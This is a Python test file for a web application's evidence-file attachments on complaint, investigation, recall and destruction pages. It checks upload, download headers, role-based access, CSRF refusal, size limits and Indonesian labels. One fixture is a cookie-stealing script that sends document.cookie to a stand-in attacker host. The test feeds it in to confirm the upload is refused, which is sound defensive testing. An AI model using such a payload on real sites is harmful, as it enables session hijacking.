"""Evidence files on the record pages: listed with their facts, uploaded by a plain form,
downloaded as sent; refusals said on the page."""

from __future__ import annotations

import hashlib
import re

from tests.factories import destroy, headers_for, make_complaint, make_investigation
from tests.pages.helpers import EN, csrf_token, signed_in_as

PDF = b"%PDF-1.7\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n"
HTML = b"<!doctype html><script>document.location='https://evil.example/?'+document.cookie</script>"


async def attach(client, page: str, name: str, content: bytes, *, action: str | None = None):
    shown = await client.get(page, headers=EN)
    assert shown.status_code == 200, shown.text
    return await client.post(
        action or f"{page}/attachments",
        data={"_csrf_token": csrf_token(shown.text)},
        files={"file": (name, content, "application/pdf")},
        headers=EN,
    )


async def test_a_complaint_file_is_uploaded_listed_and_downloaded(client):
    complaint = await make_complaint(client)
    page = f"/complaints/{complaint['id']}"
    user = await signed_in_as(client, "cs")
    sent = await attach(client, page, "Foto kemasan retak.pdf", PDF)
    assert sent.status_code == 303
    anchor = f"attachments-complaint-{complaint['id']}"
    assert sent.headers["location"] == f"{page}?attachment=saved&of={anchor}#{anchor}"

    shown = await client.get(sent.headers["location"], headers=EN)
    assert "The file is attached." in shown.text
    assert "Foto kemasan retak.pdf" in shown.text
    assert f"{len(PDF)} bytes" in shown.text
    assert hashlib.sha256(PDF).hexdigest()[:12] in shown.text
    assert user.full_name in shown.text
    link = re.search(rf'href="({page}/attachments/\d+)" download', shown.text)
    assert link, shown.text

    await signed_in_as(client, "inspector")
    download = await client.get(link[1])
    assert download.status_code == 200
    assert download.content == PDF
    assert download.headers["content-disposition"].startswith("attachment;")
    assert download.headers["x-content-type-options"] == "nosniff"
    # An inspector reads, never attaches: no form.
    assert 'type="file"' not in (await client.get(page)).text


async def test_the_page_is_in_indonesian(client):
    complaint = await make_complaint(client)
    page = f"/complaints/{complaint['id']}"
    await signed_in_as(client, "cs")
    await attach(client, page, "scan.pdf", PDF)
    shown = await client.get(page)
    for text in ("Berkas bukti", "Belum ada berkas", "Lampirkan", "Ukuran", "Diunggah oleh"):
        assert text in shown.text or text == "Belum ada berkas"
    assert "Evidence files" not in shown.text and "Uploaded by" not in shown.text
    assert "bytes" not in shown.text.split("Berkas bukti")[1].split("</section>")[0]


async def test_a_web_page_is_refused_and_the_page_says_why(client):
    complaint = await make_complaint(client)
    page = f"/complaints/{complaint['id']}"
    await signed_in_as(client, "qa")
    sent = await attach(client, page, "invoice.pdf", HTML)
    assert sent.status_code == 303
    shown = await client.get(sent.headers["location"], headers=EN)
    assert "this kind of file is not kept as evidence" in shown.text
    assert "No files attached yet." in shown.text
    empty = await attach(client, page, "nothing.pdf", b"")
    assert "the file is empty" in (await client.get(empty.headers["location"], headers=EN)).text


async def test_an_upload_without_the_form_token_is_refused(client):
    complaint = await make_complaint(client)
    await signed_in_as(client, "cs")
    response = await client.post(
        f"/complaints/{complaint['id']}/attachments",
        files={"file": ("x.pdf", PDF, "application/pdf")},
    )
    assert response.status_code == 403
    listed = await client.get(
        "/api/attachments",
        params={"entity": "complaint", "entity_id": complaint["id"]},
        headers=await headers_for("qa"),
    )
    assert listed.json()["total"] == 0


async def test_investigation_and_recall_pages_take_files_from_qa(client, two_tiers):
    qa_headers = await headers_for("qa")
    investigation = await make_investigation(client, qa_headers)
    await signed_in_as(client, "qa")
    for page in (f"/investigations/{investigation['id']}", f"/recalls/{two_tiers['recall']['id']}"):
        sent = await attach(client, page, "report.pdf", PDF)
        assert sent.status_code == 303, (page, sent.text)
        assert "report.pdf" in (await client.get(sent.headers["location"], headers=EN)).text


async def test_a_refreshing_dashboard_keeps_its_upload_form_behind_a_link(client, two_tiers):
    await signed_in_as(client, "qa")
    page = f"/recalls/{two_tiers['recall']['id']}"
    refreshing = (await client.get(page, headers=EN)).text
    assert 'http-equiv="refresh"' in refreshing
    assert 'type="file"' not in refreshing
    link = re.search(r'href="([^"]*record=attachment[^"]*)"', refreshing)
    assert link is not None
    # Asked for, the form is there and the page stops reloading over the file being chosen.
    asked = (await client.get(link.group(1).replace("&amp;", "&"), headers=EN)).text
    assert 'type="file"' in asked
    assert 'http-equiv="refresh"' not in asked


async def test_customer_service_cannot_attach_to_or_fetch_from_an_investigation(client):
    qa_headers = await headers_for("qa")
    investigation = await make_investigation(client, qa_headers)
    uploaded = await client.post(
        "/api/attachments",
        data={"entity": "investigation", "entity_id": str(investigation["id"])},
        files={"file": ("rca.pdf", PDF)},
        headers=qa_headers,
    )
    attachment_id = uploaded.json()["id"]
    complaint = await make_complaint(client)
    await signed_in_as(client, "cs")
    shown = await client.get(f"/complaints/{complaint['id']}")
    posted = await client.post(
        f"/investigations/{investigation['id']}/attachments",
        data={"_csrf_token": csrf_token(shown.text)},
        files={"file": ("x.pdf", PDF)},
    )
    assert posted.status_code == 403
    # Not visible to this role: the same answer as an id that does not exist.
    path = f"/investigations/{investigation['id']}/attachments/{attachment_id}"
    assert (await client.get(path)).status_code == 404
    # Another record's file is not reachable under this record's address.
    elsewhere = f"/complaints/{complaint['id']}/attachments/{attachment_id}"
    assert (await client.get(elsewhere)).status_code == 404


async def test_a_destruction_record_takes_its_minutes(client, two_tiers):
    other = (await destroy(client, two_tiers, 10, consignee_code="PBF-B")).json()
    destruction = (await destroy(client, two_tiers, 120, consignee_code="PBF-A")).json()
    recall_id = two_tiers["recall"]["id"]
    await signed_in_as(client, "qa")
    base = f"/recalls/{recall_id}/destructions/{destruction['id']}"
    page = f"/recalls/{recall_id}/destructions"
    sent = await attach(client, page, "berita-acara.pdf", PDF, action=f"{base}/attachments")
    anchor = f"attachments-destruction-{destruction['id']}"
    assert sent.headers["location"] == f"{page}?attachment=saved&of={anchor}#{anchor}"
    shown = await client.get(sent.headers["location"], headers=EN)
    assert "berita-acara.pdf" in shown.text and "The file is attached." in shown.text
    assert f'action="{base}/attachments"' in shown.text
    # Each record lists its own files only.
    assert shown.text.count("Evidence files") == 2
    assert shown.text.count(f'href="{base}/attachments/') == 1
    assert f"/destructions/{other['id']}/attachments/" not in shown.text.replace(
        f'action="/recalls/{recall_id}/destructions/{other["id"]}/attachments"', ""
    )
    listed = await client.get(
        "/api/attachments",
        params={"entity": "destruction", "entity_id": destruction["id"]},
        headers=await headers_for("inspector"),
    )
    [item] = listed.json()["items"]
    download = await client.get(f"{base}/attachments/{item['id']}")
    assert download.content == PDF
    wrong_recall = f"/recalls/{recall_id + 1}/destructions/{destruction['id']}"
    assert (await client.get(f"{wrong_recall}/attachments/{item['id']}")).status_code == 404


async def test_files_over_the_limit_are_refused_with_a_word_on_the_page(client, settings):
    complaint = await make_complaint(client)
    page = f"/complaints/{complaint['id']}"
    await signed_in_as(client, "cs")
    limit = settings.attachment_max_bytes
    # Just over the limit (the form still fits its body), then far over it.
    for size in (limit + 1, limit + 2 * 1024 * 1024):
        sent = await attach(client, page, "big.pdf", PDF + b"\0" * (size - len(PDF)))
        assert sent.status_code == 303, size
        assert "attachment=too-large" in sent.headers["location"]
        shown = await client.get(sent.headers["location"], headers=EN)
        assert "the file is larger than 25 MiB" in shown.text
        assert "No files attached yet." in shown.text
